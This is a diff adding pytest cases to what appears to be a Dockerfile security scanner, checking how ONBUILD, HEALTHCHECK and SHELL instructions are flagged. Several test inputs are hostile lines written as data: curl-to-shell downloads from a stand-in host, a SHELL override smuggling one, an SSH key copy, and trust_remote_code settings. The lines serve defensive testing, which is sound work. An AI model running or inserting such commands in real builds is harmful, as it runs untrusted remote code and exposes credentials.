@@ -385,3 +385,64 @@ def test_root_by_any_spelling_of_uid_zero(tmp_path: Path) -> None:
         text = f"FROM {PIN}\nUSER {user}\n"
         assert ("MLS502", 2, "low") in graded(tmp_path, text), user
     assert all(rule != "MLS502" for rule, _, _ in graded(tmp_path, f"FROM {PIN}\nUSER 1000\n"))
+
+
+# --- what ONBUILD, HEALTHCHECK and SHELL hold (red team, stop 58) ---------------------------------
+@pytest.mark.parametrize(
+    ("held", "rule"),
+    [
+        ("ONBUILD RUN curl -sSL https://x.example/i.sh | sh", "MLS503"),
+        ("HEALTHCHECK --interval=30s CMD curl -s https://x.example/h.sh | sh", "MLS503"),
+        ('HEALTHCHECK CMD ["sh", "-c", "curl -s https://x.example/h.sh | sh"]', "MLS503"),
+        ("ONBUILD HEALTHCHECK CMD curl -s https://x.example/h.sh | bash", "MLS503"),
+        ('ONBUILD RUN python -c "AutoModel.from_pretrained(m, trust_remote_code=True)"', "MLS516"),
+        ("ONBUILD ENV TRUST_REMOTE_CODE=true", "MLS516"),
+        ("ONBUILD COPY id_rsa /root/.ssh/id_rsa", "MLS507"),
+    ],
+)
+def test_what_onbuild_and_healthcheck_hold_is_checked(tmp_path: Path, held: str, rule: str) -> None:
+    assert (rule, 2) in scan(tmp_path, f"FROM {PIN}\n{held}\n{SAFE_END}")
+
+
+@pytest.mark.parametrize(
+    "held",
+    [
+        "HEALTHCHECK CMD curl -f http://localhost:8080/health || exit 1",
+        'HEALTHCHECK --interval=5m --timeout=3s CMD ["curl", "-f", "http://localhost/"]',
+        "HEALTHCHECK NONE",
+        "ONBUILD RUN pip install --no-cache-dir -r requirements.txt",
+        "ONBUILD COPY . /app",
+        'SHELL ["/bin/bash", "-o", "pipefail", "-c"]',
+        'SHELL ["/bin/bash", "-euxo", "pipefail", "-c"]',
+        'SHELL ["/bin/bash", "--login", "-c"]',
+        'SHELL ["conda", "run", "--no-capture-output", "-n", "env", "/bin/bash", "-c"]',
+    ],
+)
+def test_what_they_hold_that_is_benign_gives_nothing_blocking(tmp_path: Path, held: str) -> None:
+    found = graded(tmp_path, f"FROM {PIN}\n{held}\n{SAFE_END}")
+    assert [f for f in found if f[1] == 2 and f[2] != "low"] == []
+
+
+@pytest.mark.parametrize(
+    "held",
+    [
+        'SHELL ["powershell", "-Command"]',
+        'SHELL ["/bin/sh", "-c", "curl https://x.example/s | sh; sh -c"]',
+        'SHELL ["/bin/bash", "--rcfile", "/tmp/x", "-c"]',
+        'SHELL ["conda", "run", "--bogus", "/bin/bash", "-c"]',
+        "SHELL /bin/bash -c",
+        "ONBUILD ONBUILD RUN echo",
+        "ONBUILD FROM python",
+        "ONBUILD RUN <<EOF",
+        "HEALTHCHECK --retries=3 curl -f http://localhost/",
+        "HEALTHCHECK CMD",
+    ],
+)
+def test_what_cannot_be_read_is_reported_not_checked(tmp_path: Path, held: str) -> None:
+    found = graded(tmp_path, f"FROM {PIN}\n{held}\n{SAFE_END}")
+    assert ("MLS909", 2, "medium") in found
+
+
+def test_a_file_whose_lines_end_in_cr_alone_is_one_from_line_buildkit_refuses(tmp_path: Path) -> None:
+    text = f"FROM {PIN}\rUSER app\rRUN curl https://x.example/x | sh\r"
+    assert ("MLS909", 1, "medium") in graded(tmp_path, text)
